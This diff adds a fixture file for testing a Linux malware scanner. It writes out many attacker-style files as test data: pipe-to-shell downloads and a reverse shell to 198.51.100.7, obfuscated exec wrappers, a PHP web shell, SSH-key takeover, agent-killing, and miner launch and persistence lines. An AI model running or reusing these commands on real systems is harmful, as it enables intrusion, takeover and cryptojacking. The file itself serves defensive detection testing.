@@ -1,0 +1,332 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Files of every row as attackers vary them, and ordinary ones near by. Benign imitations: nothing here is ever run.
+
+FILES: (rule that must fire, path, content, mode). QUIET: (path, content, mode) that give nothing at warning and above.
+"""
+import base64
+import codecs
+import gzip
+import io
+import tarfile
+import zipfile
+import zlib
+
+import imitations
+from imitations import tiny_elf
+
+FILES, QUIET = [], []
+KEY = imitations.ssh_public_key().strip()
+WALLET = imitations.monero_address()
+_BODY = 'R4nd0mLv8king7Wq2mPle2Tok3nX9q'  # 30 characters; six more are their CRC-32 in base 62
+
+
+def _base62(n):
+    digits = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'
+    return ''.join(digits[n // 62 ** i % 62] for i in range(5, -1, -1))
+
+
+GITHUB = 'ghp_' + _BODY + _base62(zlib.crc32(_BODY.encode()))
+
+
+def hit(rule, path, content, mode=0o644):
+    FILES.append((rule, path, content.encode() if isinstance(content, str) else content, mode))
+
+
+def quiet(path, content, mode=0o644):
+    QUIET.append((path, content.encode() if isinstance(content, str) else content, mode))
+
+
+def scripts(rule, stem, texts):
+    """The same deed in several writings: each is a file of its own."""
+    for name, text in texts.items():
+        hit(rule, f'/srv/rows/{stem}/{name}', text, 0o755)
+
+
+def b64(text):
+    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()
+
+
+def program(*strings, **kwargs):
+    """An ELF file with strings in its only segment."""
+    return tiny_elf(code=b'\xc3DAVY TEST IMITATION\0' + b'\0'.join(s.encode() for s in strings) + b'\0', **kwargs)
+
+
+def zipped(name, content):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
+        z.writestr(name, content)
+    return out.getvalue()
+
+
+def tarred(name, content, mode='w:gz'):
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode=mode) as t:
+        info = tarfile.TarInfo(name)
+        info.size = len(content)
+        t.addfile(info, io.BytesIO(content.encode()))
+    return out.getvalue()
+
+
+# 16: miners in web pages
+page = '<!doctype html><html><head><script src="{}"></script><script>{}</script></head><body>imitation</body></html>\n'
+start = "var m = new CoinHive.Anonymous('DAVY-TEST-IMITATION', {throttle: 0.3}); m.start();"
+loader = 'https://coinhive.com/lib/coinhive.min.js'
+RULE = 'Browser miner in a web page'
+hit(RULE, '/var/www/html/index.html', page.format(loader, start))
+hit(RULE, '/var/www/html/other/own-host.html', page.format('/js/jquery.js', start + ' CoinHive.CONFIG.WEBSOCKET_SHARDS = [];'))
+hit(RULE, '/var/www/html/footer.php', f"<?php echo '<script src=\"{loader}\"></script><script>{start}</script>'; ?>\n".replace("('DAVY", '("DAVY'))
+hit(RULE, '/srv/www/js/lib.js', "importScripts('cryptonight.wasm'); var c = new CryptoLoot.Anonymous('DAVY-TEST-IMITATION');\n")
+hit(RULE, '/usr/share/nginx/html/atob.html', page.format('a.js', f"eval(atob('{b64('/* ' + loader + ' */' + start)}'))"))
+hit(RULE, '/var/www/html/unescape.html', page.format('a.js', "document.write(unescape('" + ''.join(
+    f'%{c:02x}' for c in page.format(loader, start).encode()) + "'));"))
+hit(RULE, '/var/www/html/hex.js', 'var s = "' + ''.join(f'\\x{c:02x}' for c in (loader + start).encode()) + '"; eval(s);\n')
+hit(RULE, '/home/anna/public_html/index.htm', page.format(loader, start).replace('\n', '\r\n'))
+hit(RULE, '/var/www/utf16.html', page.format(loader, start).encode('utf-16'))
+hit('Web module that mines', '/var/www/html/w.wasm', b'\0asm\1\0\0\0DAVY TEST IMITATION cryptonight_hash\0')
+quiet('/var/www/html/blog.html', '<html><body><p>CoinHive closed in 2019; its script was coinhive.min.js.</p></body></html>')
+quiet('/etc/hosts.block', '0.0.0.0 coinhive.com\n0.0.0.0 coin-hive.com\n0.0.0.0 authedmine.com\n0.0.0.0 crypto-loot.com\n')
+
+# 14, 15: hidden programs and scripts
+inner = '#!/bin/sh\necho DAVY TEST IMITATION; uname -a; touch /srv/rows/nothing; echo padding so that this is worth hiding\n'
+hexed = inner.encode().hex()
+packed = b64(gzip.compress(inner.encode(), mtime=0))
+zpacked = b64(zlib.compress(inner.encode()))
+scripts('Script that hides what it runs', 'hidden', {
+    'pipe.sh': f'#!/bin/sh\necho {b64(inner)} | base64 -d | sh\n',
+    'long-option.sh': f'#!/bin/sh\necho "{b64(inner)}" | base64 --decode | bash\n',
+    'eval.sh': f'#!/bin/bash\nX={b64(inner)}\neval "$(echo $X | base64 -d)"\n',
+    'backticks.sh': f'#!/bin/bash\nX={b64(inner)}\neval `echo $X | base64 -d`\n',
+    'heredoc.sh': f'#!/bin/bash\nbase64 -d <<EOF | bash\n{b64(inner)}\nEOF\n',
+    'herestring.sh': f'#!/bin/bash\nbash <<< "$(base64 -d <<< {b64(inner)})"\n',
+    'process.sh': f'#!/bin/bash\nsource <(echo {b64(inner)} | base64 -d)\n',
+    'ifs.sh': f'#!/bin/sh\necho${{IFS}}{b64(inner)}|base64${{IFS}}-d|sh\n',
+    'quotes.sh': f"#!/bin/sh\necho {b64(inner)} | ba''se64 -d | s\\h\n",
+    'variable.sh': f'#!/bin/sh\nd=base64\ns=sh\necho {b64(inner)} | $d -d | $s\n',
+    'openssl.sh': f'#!/bin/sh\necho {b64(inner)} | openssl base64 -A -d | sh\n',
+    'gzip.sh': f'#!/bin/sh\necho {packed} | base64 -d | gunzip | sh\n',
+    'zcat.sh': f'#!/bin/sh\necho {packed} | base64 -d | gzip -dc | sh\n',
+    'hex.sh': f'#!/bin/sh\necho {hexed} | xxd -r -p | sh\n',
+    'printf.sh': '#!/bin/sh\nprintf "' + ''.join(f'\\x{c:02x}' for c in inner.encode()) + '" | sh\n',
+    'twice.sh': f'#!/bin/sh\necho {b64(b64(inner))} | base64 -d | base64 -d | sh\n',
+    'nested.sh': f'#!/bin/sh\necho {b64("echo " + b64(inner) + " | base64 -d | sh")} | base64 -d | sh\n',
+    'crlf.sh': f'#!/bin/sh\r\necho {b64(inner)} | base64 -d | sh\r\n',
+    'python.py': f'#!/usr/bin/python3\nimport base64\nexec(base64.b64decode("{b64(inner)}"))\n',
+    'zlib.py': f'import base64, zlib\nexec(zlib.decompress(base64.b64decode(b"{zpacked}")))\n',
+    'python.sh': f'#!/bin/sh\npython3 -c "import base64;exec(base64.b64decode(\'{b64(inner)}\'))"\n',
+    'perl.pl': f'#!/usr/bin/perl\nuse MIME::Base64;\neval decode_base64("{b64(inner)}");\n',
+    'perl.sh': f'#!/bin/sh\nperl -MMIME::Base64 -e \'eval decode_base64("{b64(inner)}")\'\n',
+    'page.php': f'<?php eval(base64_decode("{b64(inner)}")); ?>\n',
+    'inflate.php': f'<?php eval(gzinflate(base64_decode("{b64(zlib.compress(inner.encode())[2:-4])}"))); ?>\n',
+    'node.js': f'#!/usr/bin/env node\neval(Buffer.from("{b64(inner)}", "base64").toString());\n',
+    'ruby.rb': f'#!/usr/bin/ruby\nrequire "base64"\neval(Base64.decode64("{b64(inner)}"))\n',
+})
+hit('Encoded command at boot or login', '/etc/cron.d/encoded', f'* * * * * root echo {b64(inner)} | base64 -d | sh\n')
+hit('Encoded command at boot or login', '/root/.bashrc', f'(echo {b64(inner)}|base64 -d|bash) >/dev/null 2>&1 &\n')
+hit('Several ways of hiding in one script', '/srv/rows/hidden/all.sh', '#!/bin/bash\nlockr -ia /root/.ssh\n'
+    f'echo {b64(gzip.compress(inner.encode(), mtime=0))} | base64 -d | gunzip | bash\npkill -f rivala; pkill rivalb; killall rivalc\n', 0o755)
+quiet('/srv/ok/certificate.sh', f'#!/bin/sh\necho {b64("just some data that is written to a file, nothing is run")} | base64 -d > /etc/app/key.bin\n', 0o755)
+quiet('/srv/ok/data.py', f'import base64\nICON = base64.b64decode("{b64("an icon, an icon, an icon, an icon, an icon")}")\n')
+quiet('/srv/ok/unpack.sh', '#!/bin/sh\nset -e\ntar -xzf app.tar.gz\ncd app && make && make install\n', 0o755)
+
+# 2, 3, 1: cloud agents
+RULE = 'Script stops a cloud agent'
+scripts(RULE, 'agents', {
+    'systemctl.sh': '#!/bin/sh\nsystemctl stop hostguard\nsystemctl disable hostguard\n',
+    'now.sh': '#!/bin/sh\nsystemctl --quiet disable --now hostguard.service\n',
+    'service.sh': '#!/bin/sh\nservice hostguard stop\n',
+    'init.sh': '#!/bin/sh\n/etc/init.d/hostguard stop\n',
+    'rpm.sh': '#!/bin/sh\nrpm -e hostguard\n',
+    'dpkg.sh': '#!/bin/sh\ndpkg -P hostguard\n',
+    'kill.sh': '#!/bin/sh\nkill -9 $(pidof hostguard)\n',
+    'rm.sh': '#!/bin/sh\nrm -rf /usr/local/hostguard\n',
+    'loop.sh': '#!/bin/bash\nfor s in hostguard uniagent; do systemctl stop $s; done\n',
+    'variable.sh': '#!/bin/sh\na=hostguard\nsystemctl stop "$a"\n',
+    'quotes.sh': '#!/bin/sh\nsys""temctl st\\op host""guard\n',
+    'ifs.sh': '#!/bin/sh\nsystemctl${IFS}stop${IFS}hostguard\n',
+    'heredoc.sh': '#!/bin/sh\nbash <<EOF\nsystemctl stop hostguard\nEOF\n',
+    'sh-c.sh': "#!/bin/sh\nsudo bash -c 'systemctl stop hostguard'\n",
+    'reset.sh': '#!/bin/sh\n/CloudResetPwdUpdateAgent/bin/cloudResetPwdUpdateAgent.script stop\n'
+                '/CloudResetPwdUpdateAgent/bin/cloudResetPwdUpdateAgent.script remove\n',
+    'reset-rm.sh': '#!/bin/sh\nrm -rf /CloudrResetPwdAgent /CloudResetPwdUpdateAgent\n',
+    'wrapped.sh': f'#!/bin/sh\necho {b64("systemctl stop hostguard; systemctl disable hostguard")} | base64 -d | sh\n',
+    'system.py': '#!/usr/bin/python3\nimport os\nos.system("systemctl stop hostguard")\n',
+    'run.py': '#!/usr/bin/python3\nimport subprocess\nsubprocess.run(["systemctl", "stop", "hostguard"])\n',
+    'perl.pl': '#!/usr/bin/perl\nsystem("systemctl stop hostguard");\n',
+    'crlf.sh': '#!/bin/sh\r\nsystemctl stop hostguard\r\n',
+    'aegis.sh': '#!/bin/sh\nkillall -9 AliYunDun AliYunDunUpdate\nrm -rf /usr/local/aegis\n',
+})
+quiet('/srv/ok/restart.sh', '#!/bin/sh\nsystemctl restart nginx\nsystemctl stop app-worker\n', 0o755)
+quiet('/srv/ok/status.sh', '#!/bin/sh\nsystemctl status hostguard\necho "never systemctl stop hostguard"\n', 0o755)
+hit('Script stops cloud agents and takes the machine over', '/srv/rows/agents/take.sh',
+    f'#!/bin/bash\nsystemctl stop hostguard\nrm -rf /root/.ssh; mkdir /root/.ssh\necho "{KEY}" >> /root/.ssh/authorized_keys\n', 0o755)
+
+# 4, 10: password and keys
+scripts('Script changes the password and replaces the keys', 'password', {
+    'chpasswd.sh': f'#!/bin/sh\necho "root:imitation" | chpasswd\nrm -rf /root/.ssh\nmkdir /root/.ssh\necho "{KEY}" > /root/.ssh/authorized_keys\n',
+})
+RULE = 'Script wipes SSH keys and admits its own'
+scripts(RULE, 'keys', {
+    'plain.sh': f'#!/bin/sh\nrm -rf ~/.ssh && mkdir ~/.ssh && echo "{KEY}" >> ~/.ssh/authorized_keys\n',
+    'cd.sh': f'#!/bin/sh\ncd ~ && rm -rf .ssh && mkdir .ssh && echo "{KEY}">>.ssh/authorized_keys && chmod -R go= ~/.ssh\n',
+    'tee.sh': f'#!/bin/sh\nrm -f /root/.ssh/authorized_keys\necho "{KEY}" | tee -a /root/.ssh/authorized_keys >/dev/null\n',
+    'heredoc.sh': f'#!/bin/sh\nrm -rf /root/.ssh/*\ncat > /root/.ssh/authorized_keys <<EOF\n{KEY}\nEOF\n',
+    'variable.sh': f'#!/bin/sh\nK=/root/.ssh/authorized_keys\nrm -f "$K"\necho "{KEY}" > $K\n',
+    'loop.sh': f'#!/bin/bash\nfor h in /root /home/ubuntu; do rm -rf $h/.ssh; mkdir -p $h/.ssh; echo "{KEY}" > $h/.ssh/authorized_keys; done\n',
+    'wrapped.sh': '#!/bin/sh\necho ' + b64(f'rm -rf ~/.ssh; mkdir ~/.ssh; echo "{KEY}" >> ~/.ssh/authorized_keys') + ' | base64 -d | sh\n',
+    'ifs.sh': f'#!/bin/sh\nrm${{IFS}}-rf${{IFS}}~/.ssh;mkdir${{IFS}}~/.ssh;echo "{KEY}">>~/.ssh/authorized_keys\n',
+    'shell.py': f'#!/usr/bin/python3\nimport os\nos.system("rm -rf ~/.ssh; mkdir ~/.ssh; echo {KEY} >> ~/.ssh/authorized_keys")\n',
+})
+quiet('/srv/ok/add-key.sh', f'#!/bin/sh\nmkdir -p ~/.ssh\necho "{KEY}" >> ~/.ssh/authorized_keys\nchmod 600 ~/.ssh/authorized_keys\n', 0o755)
+quiet('/srv/ok/known.sh', '#!/bin/sh\nssh-keygen -R host.example\nrm -f ~/.ssh/known_hosts.old\n', 0o755)
+
+# 9, 31: rivals
+names = [f'rival{c}' for c in 'abcdefghijkl']
+RULE = 'Script evicts rivals'
+scripts(RULE, 'rivals', {
+    'pkill.sh': '#!/bin/sh\n' + ''.join(f'pkill -9 -f {n}\n' for n in names),
+    'killall.sh': '#!/bin/sh\nkillall -9 ' + ' '.join(names) + '\n',
+    'grep.sh': '#!/bin/sh\n' + ''.join(f"ps aux | grep -v grep | grep '{n}' | awk '{{print $2}}' | xargs kill -9\n" for n in names),
+    'loop.sh': '#!/bin/bash\nfor p in ' + ' '.join(names) + '; do pkill -f $p; done\n',
+    'list.sh': '#!/bin/bash\nL="' + ' '.join(names) + '"\nfor p in $L; do killall $p; done\n',
+    'alternation.sh': "#!/bin/sh\nps ax | grep -E '" + '|'.join(names) + "' | awk '{print $1}' | xargs kill -9\n",
+    'pkill-alternation.sh': "#!/bin/sh\npkill -f '" + '|'.join(names) + "'\n",
+    'pidof.sh': '#!/bin/sh\n' + ''.join(f'kill -9 $(pidof {n})\n' for n in names),
+    'pgrep.sh': '#!/bin/sh\n' + ''.join(f'pgrep -f {n} | xargs -I % kill -9 %\n' for n in names),
+    'wrapped.sh': '#!/bin/sh\necho ' + b64(''.join(f'pkill -f {n}\n' for n in names)) + ' | base64 -d | sh\n',
+    'python.py': '#!/usr/bin/python3\nimport os\n' + ''.join(f'os.system("pkill -f {n}")\n' for n in names),
+})
+quiet('/srv/ok/stop.sh', '#!/bin/sh\npkill -f app-worker\npkill -f app-web\nkill $(cat /run/app.pid)\n', 0o755)
+
+# 11, 12, 13: users, sudoers, locks
+hit('Script replaces users', '/srv/rows/users/replace.sh', '#!/bin/sh\nuserdel -r rival\nuseradd -m -s /bin/bash -G sudo sysd\n'
+    f'mkdir -p /home/sysd/.ssh\necho "{KEY}" > /home/sysd/.ssh/authorized_keys\n', 0o755)
+RULE = 'Script locks files of access'
+scripts(RULE, 'locks', {
+    'chattr.sh': '#!/bin/sh\nchattr +i /root/.ssh/authorized_keys\n',
+    'recursive.sh': '#!/bin/sh\nchattr -R +ia /root/.ssh/\n',
+    'renamed.sh': '#!/bin/sh\nlockr +ia /root/.ssh/authorized_keys\n',
+    'copied.sh': '#!/bin/sh\ncp /usr/bin/chattr /usr/bin/zzz\nzzz +i /etc/passwd /etc/shadow\n',
+    'path.sh': '#!/bin/sh\n/usr/bin/tntrecht +i /etc/ld.so.preload\n',
+    'variable.sh': '#!/bin/sh\nc=chattr\nf=/root/.ssh/authorized_keys\n$c +i $f\n',
+    'cron.sh': '#!/bin/sh\nchattr +ai /var/spool/cron/root /etc/cron.d/root\n',
+    'run.py': '#!/usr/bin/python3\nimport subprocess\nsubprocess.call(["chattr", "+i", "/root/.ssh/authorized_keys"])\n',
+})
+quiet('/srv/ok/lock-resolv.sh', '#!/bin/sh\nchattr +i /etc/resolv.conf\nchmod +x /etc/cron.daily/app\n', 0o755)
+
+# 6, 7: Tor
+hit('Tor out of its place', '/srv/x/torrc', 'SocksPort 9050\nDataDirectory /srv/x/data\n')
+hit('Tor out of its place', '/opt/.x/data/cached-microdesc-consensus', 'network-status-version 3 microdesc\n')
+hit('Scheduled visit to a Tor gateway', '/etc/cron.d/ldm', '*/7 * * * * root curl -s https://imitationimitation.tor2web.io/src/ldm > /dev/null\n')
+quiet('/etc/tor/torrc', 'SocksPort 9050\n')
+
+# 18, 100: miners
+RULE = 'Miner configuration with a payable address'
+hit(RULE, '/srv/rows/miner/config.json', imitations.miner_config())
+hit(RULE, '/srv/rows/miner/renamed.dat', imitations.miner_config())
+hit(RULE, '/srv/rows/miner/crlf.json', imitations.miner_config().replace('\n', '\r\n'))
+hit(RULE, '/srv/rows/miner/utf16.json', imitations.miner_config().encode('utf-16'))
+hit(RULE, '/srv/rows/miner/one-line.json', imitations.miner_config().replace('\n', ' '))
+hit(RULE, '/srv/rows/miner/config.json.gz', gzip.compress(imitations.miner_config().encode()))
+hit(RULE, '/srv/rows/miner/config.zip', zipped('c.json', imitations.miner_config()))
+hit(RULE, '/srv/rows/miner/config.tar.gz', tarred('x/c.json', imitations.miner_config()))
+hit(RULE, '/srv/rows/miner/config.tar.xz', tarred('x/c.json', imitations.miner_config(), 'w:xz'))
+hit(RULE, '/srv/rows/miner/wrapped.sh', f'#!/bin/sh\necho {b64(imitations.miner_config())} | base64 -d > /tmp/c.json\n', 0o755)
+for name, line in {
+    'options.sh': f'./x -o stratum+tcp://pool.imitation.example:443 -u {WALLET} -p x -k --tls',
+    'long.sh': f'./x --url=pool.imitation.example:10128 --user={WALLET} --pass=x --algo=rx/0 --donate-level=1',
+    'variable.sh': f'W={WALLET}\nP=pool.imitation.example:3333\n./x -o $P -u $W -p x --donate-level 1',
+    'renamed.sh': f'/usr/sbin/kworker -a rx/0 -o 198.51.100.7:80 -u {WALLET} -p x',
+    'continued.sh': f'./x \\\n  -o pool.imitation.example:3333 \\\n  -u {WALLET} \\\n  --cpu-max-threads-hint 75',
+    'nohup.sh': f'nohup ./x --url "stratum+ssl://pool.imitation.example:443" --user "{WALLET}" >/dev/null 2>&1 &',
+    'ifs.sh': f'./x${{IFS}}-o${{IFS}}stratum+tcp://pool.imitation.example:3333${{IFS}}-u${{IFS}}{WALLET}',
+    'wrapped.sh': 'echo ' + b64(f'./x -o stratum+tcp://pool.imitation.example:3333 -u {WALLET} -p x') + ' | base64 -d | sh',
+}.items():
+    hit(RULE, f'/srv/rows/miner/start/{name}', '#!/bin/sh\n' + line + '\n', 0o755)
+hit(RULE, '/srv/rows/miner/run.py', '#!/usr/bin/python3\nimport subprocess\nsubprocess.Popen(["/tmp/x", "-o", '
+    f'"stratum+tcp://pool.imitation.example:3333", "-u", "{WALLET}"])\n', 0o755)
+hit(RULE, '/srv/rows/miner/docker-compose.yml', 'services:\n  web:\n    image: imitation/web\n    command: --url pool.imitation.example:3333 '
+    f'--user {WALLET} --donate-level 1\n')
+hit('Miner configuration', '/srv/rows/miner/no-address.json', imitations.miner_config().replace(WALLET, 'rig01'))
+hit('Miner program', '/srv/rows/miner/program', program('--donate-level', '--nicehash', 'mining.submit', 'stratum+tcp://', 'mining.authorize'), 0o755)
+hit('Signature of a miner', '/srv/rows/miner/xmr', program('--donate-level', '--randomx-1gb-pages', '--cpu-max-threads-hint'), 0o755)
+hit('Program under a miner\'s name', '/opt/tools/xmrig', program('x'), 0o755)
+hit('Start of a miner at boot or login', '/etc/systemd/system/netd.service', '[Service]\nExecStart=/usr/sbin/netd -o stratum+tcp://pool.imitation.example:3333 '
+    f'-u {WALLET}\n[Install]\nWantedBy=multi-user.target\n')
+hit('Start of a miner at boot or login', '/var/spool/cron/crontabs/root', f'@reboot /usr/sbin/netd --url pool.imitation.example:3333 --user {WALLET} --algo rx/0\n')
+quiet('/srv/ok/shop.json', f'{{"pay_to": "{WALLET}", "currency": "XMR", "url": "https://shop.example"}}\n')
+quiet('/srv/ok/database.json', '{"pools": [{"url": "postgres://db.example:5432/app", "user": "app", "max": 10}], "keepalive": true}\n')
+quiet('/srv/ok/ssh.sh', '#!/bin/sh\nssh -o StrictHostKeyChecking=no -p 2222 user@host.example\ncurl -o out.tar -u user:pass https://host.example:8443/a\n', 0o755)
+
+# 29: rootkits
+hit('Library put into every process', '/etc/ld.so.preload', '/usr/local/lib/libdavytest.so\n')
+quiet('/etc/ld.so.conf.d/local.conf', '/usr/local/lib\n')
+
+# 80, 102: secrets
+RULE = 'Secret inside a program'
+hit(RULE, '/srv/rows/secret/agent', program(f'Authorization: token {GITHUB}'), 0o755)
+hit(RULE, '/srv/rows/secret/aws', program(f'aws_access_key_id={imitations.AWS_KEY_ID}', f'aws_secret_access_key={imitations.AWS_SECRET}'), 0o755)
+hit(RULE, '/srv/rows/secret/bot', program('https://api.telegram.org/bot', '7312845960:AA' + 'HkR9xWq2LmZ7vTb4NcY8sPd3Gf6Jt1UeX'), 0o755)
+ip = '198.51.100.7'
+RULE = 'Script runs what it fetches from a bare address'
+scripts(RULE, 'fetch', {
+    'pipe.sh': f'#!/bin/sh\ncurl -fsSL http://{ip}/x.sh | sh\n',
+    'wget.sh': f'#!/bin/sh\nwget -q -O - http://{ip}/x.sh | bash\n',
+    'file.sh': f'#!/bin/sh\nwget http://{ip}/x -O /srv/x\nchmod +x /srv/x\n/srv/x\n',
+    'cd.sh': f'#!/bin/sh\ncd /srv && curl -O http://{ip}/x && chmod 777 x && ./x\n',
+    'variable.sh': f'#!/bin/sh\nU=http://{ip}:8080\ncurl -s $U/x.sh | sh\n',
+    'parts.sh': f'#!/bin/sh\nh={ip}\np=x.sh\ncurl -s "http://${{h}}/${{p}}" | sh\n',
+    'substitution.sh': f'#!/bin/sh\nsh -c "$(curl -fsSL http://{ip}/x.sh)"\n',
+    'process.sh': f'#!/bin/bash\nbash <(curl -s http://{ip}/x.sh)\n',
+    'source.sh': f'#!/bin/bash\nsource <(wget -qO- http://{ip}/x.sh)\n',
+    'either.sh': f'#!/bin/sh\n(curl -s http://{ip}/x.sh || wget -qO- http://{ip}/x.sh) | sh\n',
+    'ifs.sh': f'#!/bin/sh\ncurl${{IFS}}-s${{IFS}}http://{ip}/x.sh|sh\n',
+    'busybox.sh': f'#!/bin/sh\nbusybox wget -qO- http://{ip}/x.sh | busybox sh\n',
+    'tftp.sh': f'#!/bin/sh\ncd /srv; tftp -g -r x {ip}; chmod +x x; ./x\n',
+    'wrapped.sh': f'#!/bin/sh\necho {b64(f"curl -s http://{ip}/x.sh | sh")} | base64 -d | sh\n',
+    'heredoc.sh': f'#!/bin/sh\nsh <<EOF\ncurl -s http://{ip}/x.sh | sh\nEOF\n',
+    'system.py': f'#!/usr/bin/python3\nimport os\nos.system("curl -s http://{ip}/x.sh | sh")\n',
+    'urlopen.py': f'#!/usr/bin/python3\nimport urllib.request\nexec(urllib.request.urlopen("http://{ip}/x.py").read())\n',
+    'requests.py': f'import requests\nexec(requests.get("http://{ip}/x.py").text)\n',
+    'perl.pl': f'#!/usr/bin/perl\nsystem("wget -qO- http://{ip}/x.sh | sh");\n',
+    'page.php': f'<?php system("curl -s http://{ip}/x.sh | sh"); ?>\n',
+    'crlf.sh': f'#!/bin/sh\r\ncurl -s http://{ip}/x.sh | sh\r\n',
+})
+hit('Download and run at boot or login', '/etc/cron.d/fetch', f'*/5 * * * * root (curl -fsSL http://{ip}/x.sh||wget -q -O- http://{ip}/x.sh)|sh\n')
+hit('Download and run at boot or login', '/etc/profile.d/fetch.sh', f'curl -s http://{ip}/x.sh | sh\n')
+quiet('/srv/ok/download.sh', '#!/bin/sh\ncurl -fsSLO https://releases.example/app-1.2.tar.gz\necho "abc  app-1.2.tar.gz" | sha256sum -c\n', 0o755)
+quiet('/srv/ok/health.sh', '#!/bin/sh\ncurl -fs http://127.0.0.1:8080/health | grep -q ok\nwget -qO- http://10.0.0.5/status\n', 0o755)
+hit('Start of a program in a temporary or hidden place', '/etc/cron.d/tmp', '* * * * * root /tmp/.x/run >/dev/null 2>&1\n')
+quiet('/etc/cron.d/ok', '17 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf > /tmp/logrotate.log\n')
+
+# 101, 111: tools
+hit('Flooding tool', '/srv/rows/ddos/agent', program('github.com/codesenberg/bombardier', 'github.com/Arriven/db1000n', 'db1000n-coordinators/LoadTestConfig'), 0o755)
+hit('Flooding tool by name', '/srv/rows/ddos/db1000n', program('x'), 0o755)
+hit('Fetched target list for a flooding tool', '/srv/rows/ddos/run.sh', '#!/bin/sh\n# imitation\ngit clone https://github.com/MatrixTM/MHDDoS\n'
+    'curl -s https://raw.githubusercontent.com/imitation/none/main/targets.txt -o t.txt\n', 0o755)
+hit('Attack tool', '/srv/rows/tools/masscan', program('x'), 0o755)
+hit('Proxy against blocking', '/srv/rows/tools/xray', program('x'), 0o755)
+
+# 121: programs inside pictures
+elf, pe = tiny_elf(), b'MZ' + bytes(58) + (64).to_bytes(4, 'little') + b'PE\0\0\x4c\x01\1\0' + bytes(12) + b'\xe0\0\x02\x01\x0b\x01' + bytes(240)
+png = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABpfZFQAAAAABJRU5ErkJggg==')
+RULE = 'Program inside a picture'
+hit(RULE, '/srv/rows/media/plain.gif', imitations.gif_with_tail(elf))
+hit(RULE, '/srv/rows/media/xor.gif', imitations.gif_with_tail(bytes(c ^ 0x5a for c in elf)))
+hit(RULE, '/srv/rows/media/padded.gif', imitations.gif_with_tail(bytes(777) + elf))
+hit(RULE, '/srv/rows/media/pe.png', png + pe)
+hit(RULE, '/srv/rows/media/xor.png', png + bytes(c ^ 0x17 for c in elf))
+hit(RULE, '/srv/rows/media/wrong-name.txt', imitations.gif_with_tail(elf))
+quiet('/srv/ok/plain.gif', imitations.gif_with_tail(b''))
+quiet('/srv/ok/text.gif', imitations.gif_with_tail(b'made with an editor\n'))
+quiet('/srv/ok/plain.png', png)
+
+# 130: programs for other processors (the folder has no architecture of its own: a temporary place is the machine's)
+# 93, 103, 104 are about images: test_rows.py
+hit('File listed as bad', '/srv/rows/listed', 'DAVY TEST IMITATION of a listed file\n')
+hit('Reverse shell', '/srv/rows/shell/r.sh', '#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n', 0o755)
+hit('Shape of a web shell', '/var/www/html/up.php', '<?php /* DAVY TEST IMITATION */ @system($_GET["c"]); ?>\n')
+hit('Redis configured without protection', '/etc/redis/redis.conf', 'bind 0.0.0.0\nprotected-mode no\n')
+hit('Docker API configured on a network address', '/etc/docker/daemon.json', '{"hosts": ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"]}\n')
+hit('Docker API configured on a network address', '/etc/systemd/system/docker.service.d/api.conf', '[Service]\nExecStart=\n'
+    'ExecStart=/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2375\n')
+hit('Secret inside a program', '/srv/rows/secret/line.so', program('7312845961:AA' + 'HkR9xWq2LmZ7vTb4NcY8sPd3Gf6Jt1UeX'))
